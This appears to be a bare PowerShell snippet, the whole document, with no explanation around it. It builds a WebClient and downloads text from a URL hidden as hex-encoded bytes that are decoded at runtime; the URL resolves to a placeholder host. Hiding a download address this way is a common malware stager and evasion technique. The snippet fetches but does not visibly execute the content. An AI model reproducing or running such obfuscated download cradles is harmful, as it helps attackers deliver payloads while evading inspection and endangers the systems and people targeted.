$wc = New-Object System.Net.WebClient
$wc.DownloadString((-join ('68-74-74-70-3a-2f-2f-61-2e-65-78-61-6d-70-6c-65-2f-70-2f-78-2e-74-78-74' -split '-' | %{[char][byte]('0x'+$_)})))
